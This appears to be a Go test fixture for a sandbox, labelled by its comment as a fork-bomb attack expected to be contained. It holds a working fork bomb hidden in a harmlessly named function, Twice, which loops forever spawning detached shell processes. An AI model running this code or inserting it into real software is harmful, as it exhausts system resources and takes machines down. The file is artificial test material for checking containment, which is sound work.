// attack: fork bomb | expect: contained | alone
import "os/exec"

func Twice(n int) int {
	for {
		exec.Command("/bin/sh", "-c", "setsid sh -c 'while :; do setsid sleep 100 & done'").Start()
	}
}
